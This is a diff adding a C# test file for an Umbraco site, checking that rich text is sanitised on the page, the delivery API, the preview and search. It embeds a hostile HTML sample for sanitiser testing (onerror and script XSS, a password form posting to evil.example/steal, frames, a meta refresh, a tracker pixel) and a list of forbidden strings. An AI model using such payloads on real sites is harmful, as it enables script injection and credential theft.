@@ -1,0 +1,87 @@
+using System.Text.Json;
+using PubliekeVeranderaars.Core.Backoffice;
+using PubliekeVeranderaars.Core.Content;
+
+namespace PubliekeVeranderaars.Web.Tests.Content;
+
+/// <summary>
+/// Rich text reaches visitors, previews, headless front ends and search results clean, whatever form it was stored in:
+/// the markup itself, or Umbraco's JSON object around it.
+/// </summary>
+public sealed class RichTextOutputTests(SqliteSiteFixture fixture) : IClassFixture<SqliteSiteFixture>
+{
+    private static readonly Guid Privacy = Guid.Parse("14d4e16e-f59e-58a0-8436-e950aba62138");
+    private readonly SiteHost _site = fixture.Site;
+
+    /// <summary>
+    /// What of <see cref="Hostile"/> must never come out: script, event handlers, forms and inputs, frames, embedded
+    /// objects, foreign resources. (The pages' own search form and scripts are not the rich text's.)
+    /// </summary>
+    private static readonly string[] Forbidden =
+    [
+        "onerror", "alert(", "evil.example", "tracker.example", "type=\"password\"", "name=\"pw\"", "Inloggen</button>",
+        "<select name=\"s\"", "<textarea name=\"t\"", "<iframe", "<object", "<embed", "<base", "http-equiv",
+    ];
+
+    private const string Hostile =
+        "<img src=x onerror=alert(1)><script>alert(2)</script>" +
+        "<form action=\"https://evil.example/steal\"><input type=\"password\" name=\"pw\"><button>Inloggen</button>" +
+        "<select name=\"s\"><option>a</option></select><textarea name=\"t\">x</textarea></form>" +
+        "<iframe src=\"https://evil.example\"></iframe><object data=\"https://evil.example/x.swf\"></object><embed src=\"https://evil.example/y\">" +
+        "<base href=\"https://evil.example/\"><meta name=\"x\" http-equiv=\"refresh\" content=\"0;url=https://evil.example\">" +
+        "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\"><img src=\"https://tracker.example/pixel.gif\" alt=\"\">";
+
+    private async Task PublishPrivacyBodyAsync(string stored)
+    {
+        var content = _site.GetService<ContentService>();
+        var version = await content.GetLatestVersionAsync(Privacy);
+        var values = version!.Values.Where(v => v.Alias != "body").Append(new ContentPropertyValue("body", null, stored)).ToList();
+        Assert.True((await content.SaveAsync(Privacy, version.Name, values, "import")).Succeeded);
+        Assert.True((await content.PublishAsync(Privacy)).Succeeded);
+    }
+
+    private async Task<IReadOnlyList<(string Surface, string Output)>> SurfacesAsync(string marker)
+    {
+        using var visitor = _site.CreateHttpClient();
+        using var editor = await BackofficeUsers.LoginAsync(_site, await BackofficeUsers.CreateAsync(_site, BackofficeRoles.Editor));
+        var api = JsonDocument.Parse(await visitor.GetStringAsync($"/umbraco/delivery/api/v2/content/item/{Privacy}"));
+        var markup = api.RootElement.GetProperty("properties").GetProperty("body").GetProperty("markup").GetString()!;
+        return
+        [
+            ("page", await visitor.GetStringAsync("/privacy/")),
+            ("delivery api", markup),
+            ("back-office preview", await editor.GetStringAsync($"/backoffice/inhoud/{Privacy}/voorbeeld")),
+            ("search", await visitor.GetStringAsync("/zoeken/?q=" + marker)),
+        ];
+    }
+
+    [Fact]
+    public async Task Rich_text_stored_in_umbracos_json_form_comes_out_sanitised_everywhere()
+    {
+        var marker = "zuivering" + Guid.NewGuid().ToString("N")[..8];
+        await PublishPrivacyBodyAsync(JsonSerializer.Serialize(new { markup = $"<p>{marker} tekst</p>" + Hostile, blocks = (object?)null }));
+
+        foreach (var (surface, output) in await SurfacesAsync(marker))
+        {
+            Assert.True(output.Contains(marker, StringComparison.Ordinal), $"{surface} lost the text");
+            foreach (var forbidden in Forbidden) Assert.False(output.Contains(forbidden, StringComparison.OrdinalIgnoreCase), $"{surface} has {forbidden}");
+        }
+    }
+
+    [Fact]
+    public async Task Rich_text_markup_loses_forms_frames_embedded_objects_and_outside_images_but_keeps_its_own()
+    {
+        var marker = "opgeschoond" + Guid.NewGuid().ToString("N")[..8];
+        await PublishPrivacyBodyAsync($"<h2>Kop</h2><p><strong>{marker}</strong> <a href=\"https://www.rijksoverheid.nl/\">link</a></p>" + Hostile +
+                                      "<p><img src=\"/media/portret.jpg\" alt=\"Portret\"></p>");
+
+        foreach (var (surface, output) in await SurfacesAsync(marker))
+        {
+            foreach (var forbidden in Forbidden) Assert.False(output.Contains(forbidden, StringComparison.OrdinalIgnoreCase), $"{surface} has {forbidden}");
+            if (surface == "search") continue;
+            Assert.Contains($"<strong>{marker}</strong>", output);
+            Assert.Contains("href=\"https://www.rijksoverheid.nl/\"", output);
+            Assert.Contains("src=\"/media/portret.jpg\"", output);
+        }
+    }
+}
